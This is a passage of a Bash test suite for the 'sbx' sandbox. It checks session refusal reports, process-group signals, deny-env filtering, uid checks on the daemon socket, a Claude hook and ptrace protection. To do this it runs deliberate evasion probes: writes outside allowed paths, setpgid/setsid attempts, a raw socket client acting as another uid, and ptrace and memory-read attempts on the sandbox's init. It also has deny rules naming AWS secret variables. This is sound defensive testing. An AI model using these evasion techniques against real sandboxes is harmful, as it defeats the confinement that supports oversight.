	sx sh -c "(sleep 0.6; echo z >'$O/evil-bg') >/dev/null 2>&1 & echo started"
	expect_rc 0 "an exec that leaves a process behind"
	expect_not_contains "$ERR" "evil-bg" "the exec ended before its background process wrote"
	sx sh -c "sleep 1.5"
	expect_contains "$ERR" "$O/evil-bg" "a refusal no running exec owns is in the running exec's report"
	[ ! -e "$O/evil-bg" ] || fail "the background write outside happened"
	return 0
}
TESTS+=(session_refusals_by_pid)

t_session_report_per_exec() { # one exec makes 5000 distinct refusals; the next exec's single refusal is still in its report (the store's bound is each exec's, not the session's)
	grep -q user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null || skip "this kernel has no seccomp user notification"
	sess_start perexec
	sx sh -c "i=0; while [ \$i -lt 5000 ]; do { true >'$O/junk-'\$i; } 2>/dev/null; i=\$((i + 1)); done; echo flooded"
	expect_rc 0 "the flooding exec"
	expect_contains "$OUT" flooded "the flooding exec ran"
	expect_contains "$ERR" "deny openat $O/junk-4999" "control: the flood's last refusal is in its own report"
	sx sh -c "echo x >'$O/the-one'"
	expect_rc 2 "a write outside"
	local block; block=$(sed -n '/^<sandbox_violations>$/,/^<\/sandbox_violations>$/p' <<<"$ERR")
	grep -qx "deny openat $O/the-one" <<<"$block" || fail "the second exec's refusal is not in its report: $block"
	expect_not_contains "$block" "junk" "the first exec's refusals are not the second's"
	expect_not_contains "$block" "more" "nothing else counted in the second exec's report"
}
TESTS+=(session_report_per_exec)

t_session_attribution_unforgeable() { # an exec's process cannot move into another exec's group (setpgid: each exec is a session of its own) nor slip out of its own report with setsid: its refusals stay in its exec's report, never in the neighbour's
	grep -q user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null || skip "this kernel has no seccomp user notification"
	command -v python3 >/dev/null || skip "python3 is not installed"
	sess_start unforge
	rm -f "$P"/a-done "$P"/b.pid
	# B runs across A's whole life, says its process group, and refuses nothing itself
	timeout -k 5 "$TMO" "$SBX" exec "$SESS" -- sh -c "echo \$\$ >'$P/b.pid.tmp'; mv '$P/b.pid.tmp' '$P/b.pid'; while [ ! -e '$P/a-done' ]; do sleep 0.05; done; echo b-ok" >"$T/b.out" 2>"$T/b.err" &
	local bpid=$! i
	for i in $(seq 100); do [ -e "$P/b.pid" ] && break; sleep 0.05; done
	[ -e "$P/b.pid" ] || fail "exec B did not start"
	# A's process: a control write in its own group, then setpgid into B's group, then setsid
	sx sh -c "python3 -c '
import os, sys
O, P = sys.argv[1], sys.argv[2]
b = int(open(P + \"/b.pid\").read())
def deny(name):
    try: open(O + \"/\" + name, \"w\")
    except OSError: pass
deny(\"evil-own\")
try: os.setpgid(0, b); print(\"setpgid joined\", b)
except OSError as e: print(\"setpgid refused\", e.errno)
deny(\"evil-pgid\")
os.setsid(); print(\"setsid\", os.getsid(0))
deny(\"evil-sid\")
if os.fork() == 0:
    deny(\"evil-sid-child\"); os._exit(0)
os.wait()
' '$O' '$P'; touch '$P/a-done'"
	local aout=$OUT aerr=$ERR
	wait "$bpid"
	local berr; berr=$(cat "$T/b.err")
	note "A: $aout"; log_file "A's stderr" <(printf '%s\n' "$aerr"); log_file "B's stderr" "$T/b.err"
	grep -q b-ok "$T/b.out" || fail "exec B did not finish"
	expect_contains "$aerr" "$O/evil-own" "control: A's refusal in its own group is in A's report"
	expect_not_contains "$berr" "$O/evil-own" "control: and not in B's"
	expect_contains "$aout" "setpgid refused 1" "a process of A joined B's process group"
	expect_contains "$aerr" "$O/evil-pgid" "after the setpgid attempt, A's refusal is in A's report"
	expect_not_contains "$berr" "evil-pgid" "A's refusal was charged to B"
	expect_contains "$aerr" "$O/evil-sid" "after setsid, A's refusal is still in A's report"
	expect_contains "$aerr" "$O/evil-sid-child" "and its child's, in the new session"
	expect_not_contains "$berr" "evil-sid" "after setsid, A's refusal went to B's report"
	return 0
}
TESTS+=(session_attribution_unforgeable)

t_session_signal_reaches_group() { # a signal to the client reaches its exec's whole process group: the shell and both its children (one in the background, one waited for), not only the group's leader; control: all three were running
	sess_start sig
	timeout -k 5 30 "$SBX" exec "$SESS" -- sh -c "sleep ${TOKBASE}5 & sleep ${TOKBASE}6; echo after" >"$T/sig.out" 2>&1 &
	local cpid=$! i
	for i in $(seq 50); do
		[ -n "$(procs_with "sleep ${TOKBASE}5")" ] && [ -n "$(procs_with "sleep ${TOKBASE}6")" ] && break
		sleep 0.1
	done
	[ -n "$(procs_with "sleep ${TOKBASE}5")" ] && [ -n "$(procs_with "sleep ${TOKBASE}6")" ] ||
		fail "control: the exec's shell did not start both children"
	kill -TERM "$cpid"
	wait "$cpid"; RC=$?
	expect_rc 143 "SIGTERM to the client ends its command"
	wait_gone "sleep ${TOKBASE}6" 5 || fail "the child the exec's shell waits for outlived the signal"
	wait_gone "sleep ${TOKBASE}5" 5 || fail "the exec's background child outlived the signal"
	expect_not_contains "$(cat "$T/sig.out")" after "the shell went on after the signal"
}
TESTS+=(session_signal_reaches_group)

t_session_exec_deny_env() { # an exec never gets a variable deny-env names, though the client sends its whole environment; control: the client's other variables arrive, and a plain run under the same policy agrees
	SESS_POLICY_EXTRA=$'deny-env SBX_TEST_SECRET_*\ndeny-env AWS_SECRET_ACCESS_KEY\n' sess_start denyenv
	local probe='echo "foo=$FOO tok=${SBX_TEST_SECRET_TOKEN:-none} aws=${AWS_SECRET_ACCESS_KEY:-none} leaked=$(env | grep -c hidden-)"'
	SBX_TEST_SECRET_TOKEN=hidden-1 AWS_SECRET_ACCESS_KEY=hidden-2 FOO=from-client sx sh -c "$probe"
	expect_rc 0 "the exec"
	expect_eq "$OUT" "foo=from-client tok=none aws=none leaked=0" "the exec's environment"
	SBX_TEST_SECRET_TOKEN=hidden-1 AWS_SECRET_ACCESS_KEY=hidden-2 FOO=from-client run_sbx -c "$T/sess.policy" -- sh -c "$probe"
	expect_eq "$OUT" "foo=from-client tok=none aws=none leaked=0" "control: a plain run's environment"
}
TESTS+=(session_exec_deny_env)

t_session_daemon_checks_uid() { # the daemon itself refuses a client of another uid (SO_PEERCRED): a raw client of uid 65534 that reaches the socket (CAP_DAC_OVERRIDE kept, past sbx exec's own checks) gets no command run; control: the same raw client as the session's uid does
	[ "$(id -u)" = 0 ] || skip "connecting as another uid needs root"
	command -v setpriv >/dev/null || skip "setpriv (util-linux) is needed to change uid"
	command -v python3 >/dev/null || skip "python3 is not installed"
	sess_start peercred
	local sock= base
	for base in /tmp /var/tmp /dev/shm /run/user/0 "$HOME/.cache"; do
		[ -S "$base/sbx-0/sessions/$SESS.sock" ] && { sock=$base/sbx-0/sessions/$SESS.sock; break; }
	done
	[ -n "$sock" ] || fail "control: the session's socket is not in a runtime place"
	# an 'E' frame as sbx exec sends it (6c): type, length, then id, flags, argv, environment, directory
	cat >"$T/raw.py" <<'PY'
import socket, struct, sys
path, marker, cwd = sys.argv[1:4]
argv = [b"sh", b"-c", b"echo ran >" + marker.encode()]
env = [b"PATH=/usr/local/bin:/usr/bin:/bin"]
body = (struct.pack("=III", 0, 0, len(argv)) + b"".join(a + b"\0" for a in argv) +
        struct.pack("=I", len(env)) + b"".join(e + b"\0" for e in env) + cwd.encode() + b"\0")
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
print("connected", flush=True)
socket.send_fds(s, [b"E" + struct.pack("=I", len(body)) + body], [0, 1, 2])
s.settimeout(10)
got = b""
try:
    while True:
        d = s.recv(4096)
        if not d:
            break
        got += d
        if got[:1] == b"Z":
            break
except socket.timeout:
    pass
print("answer", got[:1].decode() or "none")
PY
	chmod 755 "$T" "$P"
	setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=+dac_override --ambient-caps=+dac_override \
		python3 "$T/raw.py" "$sock" "$P/ran-other" "$P" >"$T/other.out" 2>&1 </dev/null
	log_file other "$T/other.out"
	grep -q '^connected' "$T/other.out" || fail "setup: the other uid's client did not reach the socket: $(cat "$T/other.out")"
	python3 "$T/raw.py" "$sock" "$P/ran-own" "$P" >"$T/own.out" 2>&1 </dev/null
	log_file own "$T/own.out"
	grep -q '^answer Z' "$T/own.out" && [ -e "$P/ran-own" ] || fail "control: the raw client of the session's uid runs its command: $(cat "$T/own.out")"
	[ ! -e "$P/ran-other" ] || fail "the daemon ran a command for a client of another uid"
	grep -q '^answer Z' "$T/other.out" && fail "the daemon answered a client of another uid"
	sx echo still-serving; expect_eq "$OUT" still-serving "the session after the other uid's attempt"
}
TESTS+=(session_daemon_checks_uid)

t_hook_ask_and_spaced_path() { # sbx hook --ask answers "ask" (the person confirms), with the same rewrite; --print-settings --ask keeps --ask on the pre-tool-use hook; sbx installed under a path with a space is quoted in what it prints and in the rewrite, which runs in the session from there; control: without --ask the answer is "allow"
	command -v python3 >/dev/null || skip "python3 is not installed"
	local me="$T/my tools/sbx" id="sp$$$RANDOM"
	mkdir -p "$T/my tools" && cp "$SBX" "$me" || fail "setup: a copy of sbx under a path with a space"
	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
	# expanded now: at the subshell's exit the function's locals are gone
	trap "$(printf %q "$me") hook claude session-end <$(printf %q "$T/end.json") >/dev/null 2>&1" EXIT
	"$me" hook claude --print-settings --ask -c "$T/hook.policy" >"$T/settings.json" || fail "--print-settings --ask"
	log_file settings "$T/settings.json"
	python3 - "$T" "$P" "$id" <<'PY' 2>"$T/py.err" || fail "the settings and the inputs: $(cat "$T/py.err")"
import json, sys
t, p, sid = sys.argv[1:4]
h = json.load(open(t + "/settings.json"))["hooks"]
pre = h["PreToolUse"][0]["hooks"][0]["command"]
assert "--ask" in pre.split(), pre
assert all("--ask" not in h[e][0]["hooks"][0]["command"] for e in ("SessionStart", "SessionEnd")), h
open(t + "/pre.cmd", "w").write(pre)
c = {"session_id": sid, "cwd": p, "hook_event_name": "PreToolUse", "tool_name": "Bash",
     "tool_input": {"command": "echo ran-in-session >%s/hook-ran; cat /proc/1/comm" % p}}
json.dump(c, open(t + "/pre.json", "w"))
json.dump({"session_id": sid, "cwd": p, "hook_event_name": "SessionEnd"}, open(t + "/end.json", "w"))
PY
	# the printed hook, run as the agent runs it (a shell command line)
	sh -c "$(cat "$T/pre.cmd")" <"$T/pre.json" >"$T/ask.out" 2>"$T/ask.err" || fail "the printed pre-tool-use hook: $(cat "$T/ask.err")"
	"$me" hook claude pre-tool-use -c "$T/hook.policy" <"$T/pre.json" >"$T/allow.out" 2>>"$T/ask.err" || fail "pre-tool-use"
	log_file ask "$T/ask.out"; log_file allow "$T/allow.out"
	python3 - "$T" >"$T/check.out" 2>&1 <<'PY' || fail "the answers: $(cat "$T/check.out")"
import json, subprocess, sys
t = sys.argv[1]
for f, want in (("ask", "ask"), ("allow", "allow")):
    h = json.load(open("%s/%s.out" % (t, f)))["hookSpecificOutput"]
    assert h["permissionDecision"] == want, (f, h)
    cmd = h["updatedInput"]["command"]
    assert cmd.startswith("{ __sbx_d=$('%s/my tools/sbx' exec --fd3 " % t), cmd
    r = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and r.stdout == "sbx-init\n", (f, cmd, r.returncode, r.stdout, r.stderr)
print("ok")
PY
	[ "$(cat "$P/hook-ran" 2>/dev/null)" = ran-in-session ] || fail "the rewritten command did not run in the session"
}
TESTS+=(hook_ask_and_spaced_path)

t_session_init_untraceable() { # sbx-init of a session holds no capability (an exec's are the same), so only its being non-dumpable keeps an exec from tracing it or reading its memory (it holds the session's channel to sbx): both refused; control: the exec's own child can be traced
	sess_start untrace
	sx sh -c "'$PROBE' ptrace 1; '$PROBE' vmread 1; sleep 30 & s=\$!; '$PROBE' ptrace \$s; kill \$s"
	expect_rc 0 "the probes ran"
	[ "$(sed -n 1p <<<"$OUT")" = EPERM ] || fail "ptrace of the session's sbx-init: $(sed -n 1p <<<"$OUT")"
	[ "$(sed -n 2p <<<"$OUT")" = EPERM ] || fail "process_vm_readv of the session's sbx-init: $(sed -n 2p <<<"$OUT")"
	[ "$(sed -n 3p <<<"$OUT")" = ok ] || fail "control: ptrace of the exec's own child: $(sed -n 3p <<<"$OUT")"
}
TESTS+=(session_init_untraceable)
